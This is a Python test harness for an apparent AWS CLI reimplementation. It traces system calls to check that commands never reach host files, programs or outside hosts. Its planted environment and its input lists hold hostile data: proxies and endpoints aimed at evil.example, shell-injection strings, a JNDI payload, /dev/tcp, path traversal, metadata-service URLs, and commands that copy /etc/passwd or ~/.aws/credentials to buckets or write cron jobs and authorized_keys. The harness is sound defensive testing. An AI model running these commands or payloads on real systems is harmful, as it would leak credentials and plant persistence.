"""Runs our `aws` under a trace of its system calls, to show that no command reaches anything of the host.

`Traced` is `aws-replay`, whose transport is in memory: once it has started, a command may ask nothing at all of the
system. The commands of all rows run in it, and `hostile` ones, whose words name files, programs and other hosts. `native`
runs commands as processes of `aws-native` against an endpoint on loopback, which must be all that they reach.
"""
import base64
import functools
import http.server
import json
import os
import re
import shlex
import shutil
import subprocess
import tempfile
import threading
import zlib
from urllib.parse import urlsplit

import pool
from mistakes import options

# Calls that reach nothing but the process's memory, the time, random numbers, and what was open when it started. All
# others are traced. `read` and `write` are here because a file must be opened before, which is not.
SILENT = ('read', 'write', 'brk', 'mmap', 'munmap', 'mremap', 'mprotect', 'madvise', 'futex', 'sched_yield', 'getrandom',
          'clock_gettime', 'clock_nanosleep')

PARTITIONS = os.path.join(pool.ROOT, '.env', 'botocore', 'botocore', 'data', 'partitions.json')

# What no command may take notice of: the official CLI does.
PLANTED = 'planted-6f1d'
ENVIRONMENT = {
    'AWS_ACCESS_KEY_ID': PLANTED, 'AWS_SECRET_ACCESS_KEY': PLANTED, 'AWS_SESSION_TOKEN': PLANTED,
    'AWS_REGION': PLANTED, 'AWS_DEFAULT_REGION': PLANTED, 'AWS_DEFAULT_OUTPUT': 'table', 'AWS_PROFILE': PLANTED,
    'AWS_CONFIG_FILE': '/etc/passwd', 'AWS_SHARED_CREDENTIALS_FILE': '/etc/passwd', 'AWS_CA_BUNDLE': '/etc/passwd',
    'AWS_ENDPOINT_URL': 'http://evil.example', 'AWS_ENDPOINT_URL_S3': 'http://evil.example',
    'AWS_ENDPOINT_URL_STS': 'http://evil.example', 'AWS_PAGER': 'sh', 'PAGER': 'sh', 'AWS_USE_FIPS_ENDPOINT': 'true',
    'AWS_USE_DUALSTACK_ENDPOINT': 'true', 'AWS_CLI_AUTO_PROMPT': 'on', 'AWS_DATA_PATH': '/etc', 'HOME': '/root',
    'HTTP_PROXY': 'http://evil.example', 'HTTPS_PROXY': 'http://evil.example', 'ALL_PROXY': 'http://evil.example',
    'AWS_CONTAINER_CREDENTIALS_FULL_URI': 'http://169.254.170.2/x', 'AWS_WEB_IDENTITY_TOKEN_FILE': '/etc/passwd',
}


def strace(log, *command):
    """The words that run a command under the trace."""
    tracer = shutil.which('strace')
    if not tracer:
        raise SystemExit('parity: a trace needs strace; `scripts/witness.sh strace` installs it')
    # With the filter in the kernel, calls that are not traced cost nothing.
    return [tracer, '-f', '--seccomp-bpf', '-qq', '-e', 'signal=none', '-e', 'trace=!' + ','.join(SILENT), '-o', log,
            *command]


def calls(text):
    """The calls in a trace, without the number of the process in front of each."""
    return [re.sub(r'^\d+ +', '', line) for line in text.splitlines()]


def not_of_a_start(started):
    """What a program may not do before it looks at a command: all that it needs are its libraries and its own memory."""
    programs = [call for call in started if call.startswith('execve(')]
    if len(programs) != 1 or programs != started[:1]:
        return ' and '.join(programs) or 'nothing that strace sees'
    for call in started:
        opened = re.match(r'open\w*\((?:AT_FDCWD, )?"([^"]*)"', call)
        if opened and not opened[1].startswith(('/lib', '/usr/lib', '/etc/ld.so.cache', '/proc/self/maps')):
            return call
    return next((call for call in started if re.match(r'v?fork|clone|socket|connect', call)), None)


class Traced(pool.Ours):
    """`aws-replay` under a trace. Each result names in `system_calls` those that its command made."""

    def __init__(self, program):
        descriptor, self.path = tempfile.mkstemp(prefix='parity-trace-')
        self.log = os.fdopen(descriptor, encoding='utf-8', errors='replace')
        pool.Worker.__init__(self, strace(self.path, program), ENVIRONMENT)
        # The loader and the runtime open what they need; with the first answer, which takes no command, that is over.
        pool.Worker.call(self, {'tables': 'none'})
        wrong = not_of_a_start(calls(self.log.read()))
        if wrong:
            raise SystemExit(f'parity: aws-replay may not start with {wrong}')

    def call(self, job):
        result = super().call(job)
        # A call is in the log before the process goes on from it.
        result['system_calls'] = calls(self.log.read())
        return result

    def close(self):
        super().close()
        if self.process.returncode == 0 and 'exit_group(' not in self.log.read():
            raise RuntimeError('strace lost the program before it ended')
        self.log.close()
        os.unlink(self.path)


def difference(result):
    """What a command asked of the system, if it did."""
    made = result['system_calls']
    return f'{len(made)} system calls, such as {made[0]}' if made else None


def hostile_difference(result):
    """The same of a command with hostile words, or where else it went, or what it found out."""
    hosts = [urlsplit(request['url']).hostname or '' for request in result['requests']]
    elsewhere = [host for host in hosts if not host.endswith(own_suffixes()) or host.endswith(OTHERS)]
    if elsewhere:
        return f'a request to {elsewhere[0]}'
    if PLANTED in json.dumps(result):
        return 'a value of the environment'
    return difference(result)


@functools.cache
def own_suffixes():
    """The ends of the names of AWS's hosts, in all partitions. The domain `aws` is Amazon's."""
    with open(PARTITIONS, encoding='utf-8') as file:
        outputs = [partition['outputs'] for partition in json.load(file)['partitions']]
    return '.aws', *('.' + given[name] for given in outputs for name in ('dnsSuffix', 'dualStackDnsSuffix'))


# Words that name what belongs to the host, or another host. Each stands in place of values of all commands.
VALUES = (
    'file:///etc/passwd', 'fileb:///etc/passwd', 'file://~/.aws/credentials', 'fileb://~/.aws/credentials',
    'file:///proc/self/environ', 'fileb:///proc/self/environ', 'file://$AWS_SECRET_ACCESS_KEY', 'file:///dev/stdin',
    '/etc/passwd', '/proc/self/environ', '/proc/self/fd/0', '/dev/tcp/127.0.0.1/80', '~/.aws/credentials',
    '../../../../etc/passwd', 'C:\\Windows\\win.ini', 'http://169.254.169.254/latest/meta-data/',
    'http://127.0.0.1:9001/2018-06-01/runtime/invocation/next', 'https://evil.example/p.json', 'http://evil.example',
    '//evil.example/', 'evil.example', 'evil.example/', 'x@evil.example:443/#', 'evil.example:443', '127.0.0.1:80',
    'localhost', '[::1]', '2130706433', 'https://abc.execute-api.us-east-1.amazonaws.com/x',
    'arn:aws:s3:evil.example:123456789012:accesspoint/x', 'arn:aws:sqs:evil.example/:123456789012:x',
    'arn:aws:s3:us-east-1:evil.example/x:accesspoint/x', '$(id)', '`id`', '; id', '| sh', '!id', '${jndi:ldap://evil.example/x}',
    'ftp://evil.example/x', 'key@=file:///etc/passwd', 'Name@=fileb:///etc/passwd,Values@=file:///proc/self/environ',
    '{"a": "file:///etc/passwd"}', '["file:///etc/passwd", "http://evil.example"]', '\x00', '%00', '%2e%2e%2f%2e%2e%2f', '\u202e',
)

# Hosts among them whose names end like AWS's.
OTHERS = ('abc.execute-api.us-east-1.amazonaws.com',)

# Options that let the official CLI reach the host or another one, in front of and behind a command.
OPTIONS = (
    '--endpoint-url http://evil.example', '--endpoint-url=https://169.254.169.254', '--endp http://127.0.0.1:80',
    '--profile admin', '--ca-bundle /etc/passwd', '--no-verify-ssl', '--debug', '--no-sign-request', '--cli-auto-prompt',
    '--cli-auto-prompt=on', '--region x@evil.example:443/#', '--region evil.example/', '--region 169.254.169.254',
    '--cli-input-json file:///proc/self/environ', '--cli-input-yaml file:///etc/passwd', '--cli-input-json http://evil.example',
    '--cli-read-timeout 0', '--cli-connect-timeout 0', '--query file:///etc/passwd', '--output file:///etc/passwd',
    '--cli-binary-format file:///etc/passwd', '--generate-cli-skeleton file:///etc/passwd', '--color on',
    '--starting-token file:///etc/passwd', '--max-items file:///etc/passwd', '--cli-history enabled', '--no-cli-pager',
    '--help', 'help',
)

# Commands that read or write files, run programs, or change how later commands run.
COMMANDS = (
    'aws configure set credential_process "sh -c id"', 'aws configure set plugins.x /etc', 'aws configure list',
    'aws configure add-model --service-model file:///etc/passwd', 'aws configure get aws_secret_access_key',
    'aws configure export-credentials', 'aws configure import --csv file:///etc/passwd', 'aws configure sso',
    'aws alias', 'aws !id', 'aws whoami', 'aws sts !id', 'aws history list', 'aws history show', 'aws login', 'aws logout',
    'aws sso login', 'aws update', 'aws cli-dev wizard-dev --run-wizard file:///etc/passwd', 'aws iam wizard create-role',
    'aws ssm start-session --target i-1', 'aws ecs execute-command --cluster c --task t --command sh --interactive',
    'aws emr ssh --cluster-id j-1 --key-pair-file /etc/passwd', 'aws emr socks --cluster-id j-1 --key-pair-file /etc/passwd',
    'aws emr put --cluster-id j-1 --key-pair-file /etc/passwd --src /etc/passwd', 'aws emr get --cluster-id j-1 --src /x',
    'aws ec2-instance-connect ssh --instance-id i-1', 'aws ec2-instance-connect open-tunnel --instance-id i-1 --local-port 80',
    'aws codeartifact login --tool pip --domain d --repository r', 'aws deploy install --config-file /etc/passwd',
    'aws deploy uninstall', 'aws lightsail push-container-image --service-name s --label l --image i',
    'aws codecommit credential-helper get', 'aws cloudfront sign --url http://x --key-pair-id k --private-key file:///etc/passwd',
    'aws eks update-kubeconfig --name c --kubeconfig /root/.kube/config', 'aws eks update-kubeconfig --name c',
    'aws s3 cp /etc/passwd s3://b/k', 'aws s3 cp /proc/self/environ s3://b/', 'aws s3 cp ~/.aws/credentials s3://b/k',
    'aws s3 cp / s3://b/ --recursive', 'aws s3 cp s3://b/k /etc/cron.d/x', 'aws s3 cp s3://b/k /root/.ssh/authorized_keys',
    'aws s3 cp s3://b/../../etc/passwd .', 'aws s3 cp s3://b/ / --recursive', 'aws s3 sync / s3://b', 'aws s3 sync s3://b /tmp',
    'aws s3 sync /etc s3://b --delete', 'aws s3 sync s3://b / --delete', 'aws s3 mv /etc/passwd s3://b/k',
    'aws s3 mv s3://b/k /etc/passwd', 'aws s3 rm /etc/passwd', 'aws s3 ls file:///etc', 'aws s3 ls /etc',
    'aws s3 cp - s3://b/k', 'aws s3 cp s3://b/k -', 'aws s3 cp s3://b/k /dev/stdout', 'aws s3 cp /dev/stdin s3://b/k',
    'aws s3 presign s3://b/k', 'aws s3 website s3://b --index-document file:///etc/passwd',
    'aws s3api get-object --bucket b --key k /etc/cron.d/x', 'aws s3api get-object --bucket b --key k ../../x',
    'aws s3api put-object --bucket b --key k --body /etc/passwd', 'aws s3api put-object --bucket b --key k --body ../../etc/passwd',
    'aws s3api list-objects-v2 --bucket 127.0.0.1:1', 'aws s3api head-bucket --bucket evil.example/',
    'aws s3api head-bucket --bucket arn:aws:s3:evil.example:123456789012:accesspoint:x',
    'aws lambda invoke --function-name f /var/task/x', 'aws lambda invoke --function-name f --payload file:///etc/passwd /dev/stdout',
    'aws lambda update-function-code --function-name f --zip-file fileb:///etc/passwd',
    'aws cloudformation package --template-file /etc/passwd --s3-bucket b', 'aws cloudformation deploy --template-file /etc/passwd --stack-name s',
    'aws cloudformation package --template-file t --s3-bucket b --output-template-file /etc/cron.d/x',
    'aws cloudtrail validate-logs --trail-arn a --start-time 2020-01-01', 'aws gamelift upload-build --name n --build-version 1 --build-root /etc',
    'aws gamelift get-game-session-log --game-session-id g --save-as /etc/cron.d/x', 'aws iam create-virtual-mfa-device '
    '--virtual-mfa-device-name n --outfile /etc/cron.d/x --bootstrap-method QRCodePNG',
    'aws iot create-keys-and-certificate --private-key-outfile /etc/cron.d/x', 'aws deploy push --application-name a '
    '--s3-location s3://b/k --source /etc', 'aws deploy register --instance-name n', 'aws machinelearning predict '
    '--ml-model-id m --record a=b --predict-endpoint http://evil.example', 'aws sqs send-message --queue-url '
    'http://169.254.169.254/latest --message-body x', 'aws sqs receive-message --queue-url http://evil.example/q',
    'aws cloudsearchdomain search --search-query q --endpoint-url http://evil.example', 'aws ecr get-login-password',
    'aws servicecatalog generate product cloud-formation-provisioning-artifact --file-path /etc/passwd --bucket-name b '
    '--name n --owner o --product-type CLOUD_FORMATION_TEMPLATE --provisioning-artifact-name a '
    '--provisioning-artifact-description d --provisioning-artifact-type CLOUD_FORMATION_TEMPLATE',
    'aws agent-toolkit add-skill --name x', 'aws ddb put t file:///etc/passwd', 'aws ddb select t --filter file:///etc/passwd',
    'aws emr create-cluster --instance-groups file:///etc/passwd --release-label emr-7.0.0 --use-default-roles',
    'aws rds generate-db-auth-token --hostname evil.example --port 1 --username u', 'aws eks get-token --cluster-name c',
    'aws logs tail /etc/passwd', 'aws --version', 'aws help', 'aws', '/etc/passwd',
)


def hostile(commands):
    """Jobs with hostile words: each operation's whole command once for each of its options, whose value is another of
    VALUES, and once with one of OPTIONS; and COMMANDS."""
    for command in commands:
        if command['style'] != 'max':
            continue
        words = shlex.split(command['cmd'])
        turn = zlib.crc32(command['cmd'].encode())
        made = [words[:start + 1] + [VALUES[(turn + number) % len(VALUES)]] + words[end:]
                for number, (start, end) in enumerate(options(words)) if end - start > 1]
        option = shlex.split(OPTIONS[turn % len(OPTIONS)])
        made.append(words + option if turn % 2 else words[:1] + option + words[1:])
        for words in made:
            yield {'service': command['service'], 'op': command['op'], 'cmd': shlex.join(words), 'responses': [{}]}
    for command in COMMANDS:
        yield {'service': 'none', 'op': 'none', 'cmd': command, 'responses': [{'body': '{}'}]}


class Endpoint(http.server.ThreadingHTTPServer):
    """Answers on loopback with what was recorded, in order and the last one for ever."""
    daemon_threads = True

    def __init__(self):
        super().__init__(('127.0.0.1', 0), Answer)
        self.answers = []
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Answer(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'

    def answer(self):
        self.rfile.read(int(self.headers.get('Content-Length', 0)))
        # What is not recorded is refused, so that nobody tries again.
        answers = self.server.answers
        answer = (answers.pop(0) if len(answers) > 1 else answers[0]) if answers else {'status': 400}
        body = answer.get('body') or ''
        body = base64.b64decode(body['b64']) if isinstance(body, dict) else body.encode()
        self.send_response(answer.get('status', 200))
        for name, value in answer.get('headers', {}).items():
            if name.lower() not in ('content-length', 'transfer-encoding', 'connection', 'date'):
                self.send_header(name, str(value))
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        if self.command != 'HEAD':
            self.wfile.write(body)

    do_GET = do_HEAD = do_POST = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = answer

    def log_message(self, *_):
        pass


# What a process does with its connections.
ON_CONNECTIONS = ('epoll_create1', 'epoll_ctl', 'epoll_wait', 'epoll_pwait', 'eventfd2', 'fcntl', 'close', 'getsockopt',
                  'setsockopt', 'getpeername', 'getsockname', 'writev', 'recvfrom', 'shutdown', 'sigaltstack', 'exit_group')


def native(program, jobs):
    """For each job what its command did as a process of its own, besides talking to its endpoint; None if nothing."""
    endpoint = Endpoint()
    port = endpoint.server_port
    environment = dict(ENVIRONMENT, AWS_ENDPOINT_URL=f'http://127.0.0.1:{port}', AWS_REGION='us-east-1')
    # A pair of sockets leads nowhere: the runtime of a build that hears signals hears them through one.
    connection = re.compile(
        r'socketpair\(AF_UNIX, SOCK_STREAM|socket\(AF_INET, SOCK_STREAM|'
        rf'connect\(\d+, {{sa_family=AF_INET, sin_port=htons\({port}\), sin_addr=inet_addr\("127\.0\.0\.1"\)}}')
    for job in jobs:
        endpoint.answers = list(job.get('answers', ()))
        with tempfile.NamedTemporaryFile('r', prefix='parity-trace-', encoding='utf-8', errors='replace') as log:
            subprocess.run(strace(log.name, program, *shlex.split(job['cmd'])[1:]), env=environment, timeout=300,
                           stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)
            made = calls(log.read())
        # It starts its runtime when it has read its words.
        start = next((at for at, call in enumerate(made) if call.startswith('epoll_create1(')), len(made))
        others = (call for call in made[start:]
                  if call.split('(')[0] not in ON_CONNECTIONS and not connection.match(call))
        yield job, not_of_a_start(made[:start]) or next(others, None if made[start:] else 'it did not start')
    endpoint.shutdown()
    endpoint.server_close()
